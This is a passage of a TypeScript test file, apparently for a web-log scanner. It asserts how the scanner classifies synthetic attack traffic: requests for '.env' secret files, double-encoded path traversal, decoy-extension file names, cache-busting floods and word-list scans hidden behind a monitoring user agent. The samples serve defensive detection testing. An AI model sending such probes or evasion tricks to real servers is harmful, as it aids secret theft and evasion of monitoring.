    assert.deepEqual(categories({ ip: '10.0.1.5', request: 'GET /.env HTTP/1.1', status: 404, ua }), ['health-check']);
    assert.deepEqual(categories({ ip: '198.51.100.5', request: 'GET /.env HTTP/1.1', status: 404, ua }), ['sensitive-file']);
  });
});

describe('floods', () => {
  it('random bare queries on the home page from rotating user agents cross the cache-busting threshold', () => {
    const agents = ['Mozilla/5.0 (Windows NT 10.0) Chrome/120.0', 'Mozilla/5.0 (X11; Linux x86_64) Firefox/121.0', 'Mozilla/5.0 (Macintosh) Safari/605.1.15'];
    const lines = Array.from(
      { length: 40 },
      (_, i) => `198.51.100.62 - - [${timeAt(i)}] "GET /?${(0x9a3f00 + i * 7919).toString(36)}k${i}x HTTP/1.1" 200 5120 "-" "${agents[i % 3]}"`,
    );
    const { report } = scanLines({ a: lines });
    assert.equal(report.alerts[0]?.trigger, 'threshold:cache-busting');
  });
});

describe('a user agent is not evidence of innocence', () => {
  const wordlist = (ip: string, ua: string) =>
    Array.from({ length: 12 }, (_, i) => `${ip} - - [${timeAt(i * 3)}] "GET /w${i}/index HTTP/1.1" 404 0 "-" "${ua}"`);

  it('a monitor user agent from the internet does not hide a word-list scan', () => {
    const { report } = scanLines({ a: wordlist('198.51.100.61', 'Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)') });
    assert.equal(report.alerts[0]?.trigger, 'error-burst');
  });

  it('the same from an internal monitor stays benign', () => {
    const { report } = scanLines({ a: wordlist('10.0.4.9', 'kube-probe/1.29') });
    assert.equal(report.alerts.length, 0);
  });
});

describe('decoding and file-name limits', () => {
  it(`decodes at most ${MAX_DECODE_PASSES} times and counts input still encoded after that`, () => {
    const limits = { decodePassesExhausted: 0, decoyExtensionsCut: 0, combiningRunsCut: 0 };
    assert.equal(decodeFully('%252e%252e%252f', limits), '../');
    assert.equal(limits.decodePassesExhausted, 0);
    const deep = `%${'25'.repeat(MAX_DECODE_PASSES + 1)}2e`;
    assert.match(decodeFully(deep, limits), /%/);
    assert.equal(limits.decodePassesExhausted, 1);
  });

  it(`cuts at most ${MAX_DECOY_EXTENSIONS} decoy extensions from the end, then tests the first ${MAX_NAME_PARTS} parts, and counts names with more`, () => {
    const c = new Classifier(BUILTIN_RULES);
    const label = (path: string) =>
      c
        .classify(record({ request: `GET ${path} HTTP/1.1`, status: 404 }))
        .labels.map((l) => l.rule.id)
        .filter((id) => id === 'secret-file');
    assert.deepEqual(label('/.env.a.b.c'), ['secret-file']);
    assert.equal(c.limits.decoyExtensionsCut, 0);
    // One more decoy no longer hides it: the name is also read as its first part.
    assert.deepEqual(label('/.env.a.b.c.d'), ['secret-file']);
    assert.equal(c.limits.decoyExtensionsCut, 0);
    // A name with a prefix neither cut reaches is counted (that prefix is not tested).
    const longest = MAX_NAME_PARTS + MAX_DECOY_EXTENSIONS + 1;
    assert.deepEqual(label(`/.env${'.x'.repeat(longest)}`), ['secret-file']);
    assert.equal(c.limits.decoyExtensionsCut, 1);
  });

  it(`refuses a threshold window longer than ${MAX_THRESHOLD_SECONDS} s`, () => {
    const rule: Rule = { id: 'x', category: 'x', class: 'abuse', severity: 'low', score: 1, explain: 'a long window', match: { status: ['401'] } };
    assert.doesNotThrow(() => new Classifier([{ ...rule, threshold: { count: 3, windowSeconds: MAX_THRESHOLD_SECONDS } }]));
    assert.throws(() => new Classifier([{ ...rule, threshold: { count: 3, windowSeconds: MAX_THRESHOLD_SECONDS + 1 } }]), /threshold/);
  });
});
